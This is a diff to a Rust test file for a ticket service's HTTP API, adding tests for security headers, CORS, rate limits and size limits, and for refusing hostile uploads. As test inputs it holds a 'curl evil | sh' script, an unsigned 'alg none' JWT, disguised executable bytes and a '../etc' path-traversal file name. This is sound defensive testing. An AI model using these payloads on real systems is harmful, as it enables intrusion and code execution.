@@ -14,7 +14,7 @@ use ticketd_domain::{
     CreateOutcome, CreateRequest, CreateTicketError, CreatedTicket, IncidentId, NewTicket,
     OperationId, StoredAnswer,
 };
-use ticketd_http::{HttpState, JwtVerifier, Limits, app, mint_hs256_token};
+use ticketd_http::{HttpState, Limits, Verifier, app, mint_hs256_token};
 
 const SECRET: &str = "handler-test-secret";
 
@@ -32,11 +32,13 @@ fn bearer() -> (header::HeaderName, String) {
 fn state(service: MockTicketService, limits: Limits) -> HttpState {
     HttpState {
         service: Arc::new(service),
-        verifier: Arc::new(JwtVerifier::hs256(
-            &SecretString::from(SECRET),
-            Duration::from_secs(60),
-        )),
+        verifier: Arc::new(
+            Verifier::hs256(&SecretString::from(SECRET), Duration::from_secs(60))
+                .expect("a verifier"),
+        ),
         limits,
+        rate_limiter: None,
+        cors_origins: Vec::new(),
     }
 }
 
@@ -320,7 +322,8 @@ async fn a_json_body_over_the_limit_is_413() {
 #[actix_web::test]
 async fn a_multipart_ticket_with_a_request_part_streams_its_files_to_the_service() {
     let (service, seen) = recording_service();
-    let png: Vec<u8> = (0..=255u8).cycle().take(100_000).collect();
+    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
+    png.extend((0..=255u8).cycle().take(100_000 - png.len()));
     // Files first, ticket last: part order does not matter.
     let form = Form::new()
         .file("attachments[]", "screen.png", "image/png", &png)
@@ -930,4 +933,316 @@ async fn an_operation_is_shown_to_its_caller_and_is_404_for_anyone_else_or_a_bad
     )
     .await;
     assert_eq!(bad.status(), StatusCode::NOT_FOUND);
+}
+
+// ---- Hardening: headers, CORS, rate limits, hostile bodies and files ----
+
+fn with_limits(limits: Limits) -> HttpState {
+    state(untouched_service(), limits)
+}
+
+#[actix_web::test]
+async fn every_answer_forbids_sniffing_and_storing_and_names_no_server_version() {
+    for request in [
+        TestRequest::get().uri("/healthz"),
+        TestRequest::post().uri("/api/v1/tickets"),
+        TestRequest::get().uri("/nowhere"),
+    ] {
+        let (_, headers, _) = call(with_limits(Limits::default()), request).await;
+        assert_eq!(
+            headers
+                .get(header::X_CONTENT_TYPE_OPTIONS)
+                .map(|v| v.as_bytes()),
+            Some(&b"nosniff"[..])
+        );
+        assert_eq!(
+            headers.get(header::CACHE_CONTROL).map(|v| v.as_bytes()),
+            Some(&b"no-store"[..])
+        );
+        assert!(headers.get(header::SERVER).is_none());
+    }
+}
+
+#[actix_web::test]
+async fn every_kind_of_refused_token_gets_the_same_401() {
+    let now = chrono::Utc::now().timestamp();
+    let sign = |claims: Value| {
+        jsonwebtoken::encode(
+            &jsonwebtoken::Header::default(),
+            &claims,
+            &jsonwebtoken::EncodingKey::from_secret(SECRET.as_bytes()),
+        )
+        .expect("encodes")
+    };
+    let tokens = [
+        sign(json!({"email": "a@example.com", "exp": now - 3600})),
+        sign(json!({"email": "a@example.com", "exp": now + 3600, "nbf": now + 3600})),
+        sign(json!({"sub": "no-email", "exp": now + 3600})),
+        "x".repeat(9000),
+        "eyJhbGciOiJub25lIn0.eyJlbWFpbCI6ImFAZXhhbXBsZS5jb20ifQ.".to_owned(),
+    ];
+    let mut bodies = Vec::new();
+    for token in tokens {
+        let request = json_request(&valid_json())
+            .insert_header((header::AUTHORIZATION, format!("Bearer {token}")));
+        let (status, headers, mut body) = call(with_limits(Limits::default()), request).await;
+        assert_eq!(status, StatusCode::UNAUTHORIZED);
+        assert_eq!(
+            headers.get(header::WWW_AUTHENTICATE).map(|v| v.as_bytes()),
+            Some(&br#"Bearer error="invalid_token""#[..])
+        );
+        body.as_object_mut().expect("object").remove("request_id");
+        bodies.push(body);
+    }
+    assert!(bodies.windows(2).all(|w| w[0] == w[1]), "{bodies:?}");
+}
+
+#[actix_web::test]
+async fn a_token_in_the_query_string_is_not_accepted() {
+    let request = TestRequest::post()
+        .uri(&format!(
+            "/api/v1/tickets?access_token={}",
+            token_for("alice@example.com")
+        ))
+        .insert_header((header::CONTENT_TYPE, "application/json"))
+        .set_payload(valid_json().to_string());
+    let (status, _, _) = call(with_limits(Limits::default()), request).await;
+    assert_eq!(status, StatusCode::UNAUTHORIZED);
+}
+
+#[actix_web::test]
+async fn a_caller_over_the_rate_limit_gets_429_with_retry_after_and_ratelimit_headers() {
+    let mut state = state(recording_service().0, Limits::default());
+    state.rate_limiter = ticketd_http::RateLimiter::new(ticketd_http::RateLimit {
+        per_minute: 1,
+        burst: 2,
+    })
+    .map(Arc::new);
+    let app = test::init_service(app(state)).await;
+    let mut statuses = Vec::new();
+    let mut last = None;
+    for _ in 0..3 {
+        let response = test::call_service(&app, json_request(&valid_json()).to_request()).await;
+        statuses.push(response.status().as_u16());
+        last = Some(response);
+    }
+    assert_eq!(statuses, [201, 201, 429]);
+    let response = last.expect("answered");
+    let get = |name: &str| {
+        response
+            .headers()
+            .get(name)
+            .and_then(|v| v.to_str().ok())
+            .map(ToOwned::to_owned)
+    };
+    assert_eq!(get("retry-after").as_deref(), Some("60"));
+    assert_eq!(get("ratelimit-limit").as_deref(), Some("2"));
+    assert_eq!(get("ratelimit-remaining").as_deref(), Some("0"));
+    assert_eq!(get("ratelimit-policy").as_deref(), Some("2;w=120"));
+    let body: Value = serde_json::from_slice(&test::read_body(response).await).expect("json");
+    assert_eq!(body["code"], "RATE_LIMITED");
+
+    // Another caller has a bucket of its own.
+    let bob = json_request(&valid_json()).insert_header((
+        header::AUTHORIZATION,
+        format!("Bearer {}", token_for("bob@example.com")),
+    ));
+    assert_eq!(
+        test::call_service(&app, bob.to_request()).await.status(),
+        StatusCode::CREATED
+    );
+}
+
+#[actix_web::test]
+async fn oversized_request_headers_are_431() {
+    let limits = Limits {
+        max_header_bytes: 2048,
+        ..Limits::default()
+    };
+    let request = json_request(&valid_json()).insert_header(("x-padding", "p".repeat(4096)));
+    let (status, _, body) = call(with_limits(limits), request).await;
+    assert_eq!(status, StatusCode::REQUEST_HEADER_FIELDS_TOO_LARGE);
+    assert_eq!(body["code"], "HEADERS_TOO_LARGE");
+}
+
+#[actix_web::test]
+async fn json_nested_too_deeply_is_400_before_it_is_parsed() {
+    let deep = format!("{{\"title\": {}1{}}}", "[".repeat(200), "]".repeat(200));
+    let request = TestRequest::post()
+        .uri("/api/v1/tickets")
+        .insert_header(bearer())
+        .insert_header((header::CONTENT_TYPE, "application/json"))
+        .set_payload(deep);
+    let (status, _, body) = call(with_limits(Limits::default()), request).await;
+    assert_eq!(status, StatusCode::BAD_REQUEST);
+    assert!(
+        body["detail"]
+            .as_str()
+            .expect("detail")
+            .contains("nests deeper"),
+        "{body}"
+    );
+}
+
+#[actix_web::test]
+async fn cors_answers_only_configured_origins_and_never_allows_credentials() {
+    let mut configured = with_limits(Limits::default());
+    configured.cors_origins = vec!["https://portal.example.com".into()];
+    let preflight = |origin: &str| {
+        TestRequest::default()
+            .method(actix_web::http::Method::OPTIONS)
+            .uri("/api/v1/tickets")
+            .insert_header((header::ORIGIN, origin.to_owned()))
+            .insert_header((header::ACCESS_CONTROL_REQUEST_METHOD, "POST"))
+            .insert_header((
+                header::ACCESS_CONTROL_REQUEST_HEADERS,
+                "authorization, content-type, idempotency-key",
+            ))
+    };
+    let (status, headers, _) =
+        call(configured.clone(), preflight("https://portal.example.com")).await;
+    assert!(status.is_success(), "{status}");
+    assert_eq!(
+        headers
+            .get(header::ACCESS_CONTROL_ALLOW_ORIGIN)
+            .map(|v| v.as_bytes()),
+        Some(&b"https://portal.example.com"[..])
+    );
+    assert!(
+        headers
+            .get(header::ACCESS_CONTROL_ALLOW_CREDENTIALS)
+            .is_none()
+    );
+
+    let (_, headers, _) = call(configured, preflight("https://evil.example.com")).await;
+    assert!(headers.get(header::ACCESS_CONTROL_ALLOW_ORIGIN).is_none());
+
+    let mut wildcard = with_limits(Limits::default());
+    wildcard.cors_origins = vec!["*".into()];
+    let (_, headers, _) = call(wildcard, preflight("https://anyone.example.com")).await;
+    assert_eq!(
+        headers
+            .get(header::ACCESS_CONTROL_ALLOW_ORIGIN)
+            .map(|v| v.as_bytes()),
+        Some(&b"*"[..])
+    );
+    assert!(
+        headers
+            .get(header::ACCESS_CONTROL_ALLOW_CREDENTIALS)
+            .is_none()
+    );
+
+    // Without configured origins there is no CORS at all.
+    let (_, headers, _) = call(
+        with_limits(Limits::default()),
+        preflight("https://portal.example.com"),
+    )
+    .await;
+    assert!(headers.get(header::ACCESS_CONTROL_ALLOW_ORIGIN).is_none());
+}
+
+const ELF: &[u8] = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0";
+const PDF: &[u8] = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n";
+
+#[actix_web::test]
+async fn hostile_files_are_415_naming_the_file_and_nothing_is_created() {
+    let cases: [(&str, &str, &[u8], &str); 4] = [
+        ("holiday.jpg", "image/jpeg", ELF, "an executable"),
+        ("scan.png", "image/png", PDF, "declared as image/png"),
+        ("invoice.exe", "application/pdf", PDF, "ending in .exe"),
+        (
+            "notes.txt",
+            "text/plain",
+            b"#!/bin/sh\ncurl evil | sh\n",
+            "a script",
+        ),
+    ];
+    for (name, declared, bytes, reason) in cases {
+        let form = Form::new().text("request", &valid_json().to_string()).file(
+            "attachments[]",
+            name,
+            declared,
+            bytes,
+        );
+        let (status, _, body) = call(with_limits(Limits::default()), form.request()).await;
+        assert_eq!(status, StatusCode::UNSUPPORTED_MEDIA_TYPE, "{name}: {body}");
+        let detail = body["detail"].as_str().expect("detail");
+        assert!(detail.contains(name) && detail.contains(reason), "{detail}");
+    }
+}
+
+#[actix_web::test]
+async fn a_refused_file_is_refused_once_its_first_bytes_are_seen() {
+    // 5 MiB of executable: refused after the sniff window, not after the whole upload.
+    let mut exe = ELF.to_vec();
+    exe.resize(5 * 1024 * 1024, 0);
+    let form = Form::new().text("request", &valid_json().to_string()).file(
+        "attachments[]",
+        "big.dat",
+        "application/octet-stream",
+        &exe,
+    );
+    let (status, _, _) = call(with_limits(Limits::default()), form.request()).await;
+    assert_eq!(status, StatusCode::UNSUPPORTED_MEDIA_TYPE);
+}
+
+#[actix_web::test]
+async fn non_ascii_file_names_arrive_intact_and_traversal_parts_do_not() {
+    let (service, seen) = recording_service();
+    let mut body = Form::new().text("request", &valid_json().to_string());
+    // RFC 5987 `filename*` (what careful clients send for non-ASCII names).
+    for (encoded, _) in [
+        ("%E5%A0%B1%E5%91%8A%E6%9B%B8.pdf", "報告書.pdf"),
+        ("%D8%AA%D9%82%D8%B1%D9%8A%D8%B1.pdf", "تقرير.pdf"),
+        ("%F0%9F%98%80%20scan.pdf", "😀 scan.pdf"),
+        ("..%2F..%2Fetc%2F.hidden.pdf", "hidden.pdf"),
+    ] {
+        body.body.extend_from_slice(
+            format!(
+                "--{}\r\nContent-Disposition: form-data; name=\"attachments[]\"; filename*=UTF-8''{encoded}\r\nContent-Type: application/pdf\r\n\r\n",
+                body.boundary
+            )
+            .as_bytes(),
+        );
+        body.body.extend_from_slice(PDF);
+        body.body.extend_from_slice(b"\r\n");
+    }
+    let (status, _, answer) = call(state(service, Limits::default()), body.request()).await;
+    assert_eq!(status, StatusCode::CREATED, "{answer}");
+    let seen = seen.lock().expect("lock");
+    let names: Vec<&str> = seen[0]
+        .1
+        .attachments
+        .iter()
+        .map(|a| a.name.as_str())
+        .collect();
+    assert_eq!(
+        names,
+        ["報告書.pdf", "تقرير.pdf", "😀 scan.pdf", "hidden.pdf"]
+    );
+}
+
+#[actix_web::test]
+async fn a_part_with_oversized_headers_is_refused() {
+    let mut form = Form::new().text("request", &valid_json().to_string());
+    form.body.extend_from_slice(
+        format!(
+            "--{}\r\nContent-Disposition: form-data; name=\"attachments[]\"; filename=\"a.txt\"\r\nX-Padding: {}\r\n\r\nabc\r\n",
+            form.boundary,
+            "p".repeat(100 * 1024)
+        )
+        .as_bytes(),
+    );
+    let (status, _, body) = call(with_limits(Limits::default()), form.request()).await;
+    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
+}
+
+#[actix_web::test]
+async fn too_many_text_parts_are_413() {
+    let mut form = Form::new().text("request", &valid_json().to_string());
+    for i in 0..200 {
+        form = form.text(&format!("extra_{i}"), "x");
+    }
+    let (status, _, _) = call(with_limits(Limits::default()), form.request()).await;
+    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE);
 }
